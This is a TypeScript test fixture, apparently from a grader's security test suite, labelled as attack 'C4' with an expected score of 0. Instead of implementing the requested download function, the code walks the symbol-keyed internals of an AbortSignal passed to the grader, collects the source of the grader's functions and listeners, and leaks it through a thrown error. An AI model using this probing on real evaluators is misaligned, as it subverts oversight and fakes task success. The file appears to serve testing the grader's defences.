// attack: C4 follows the symbol-keyed fields of node's objects to listeners, classes and functions of the grader
// expect: score 0
const loot: string[] = [];
export async function downloadAll(urls: any, download: any): Promise<any> {
  const controller = new AbortController();
  void download('/a', { signal: controller.signal }).catch(() => {});
  const seen = new Set<any>();
  const visit = (value: any, path: string, depth: number): void => {
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value) || depth > 8) return;
    seen.add(value);
    if (typeof value === 'function') loot.push(`${path} ${String(value).slice(0, 100)}`);
    const entries: [any, any][] = Reflect.ownKeys(value).map((key) => [String(key), Reflect.getOwnPropertyDescriptor(value, key)?.value]);
    if (value instanceof Map) entries.push(...Map.prototype.entries.call(value));
    if (value instanceof Set) for (const item of Set.prototype.values.call(value)) entries.push(['item', item]);
    for (const [key, inner] of entries) visit(inner, `${path}.${key}`, depth + 1);
    visit(Object.getPrototypeOf(value), `${path}^`, depth + 1);
  };
  visit(controller.signal, 'signal', 0);
  throw new Error(loot.filter((line) => !line.includes('native code')).join('\n').slice(0, 1_900));
}
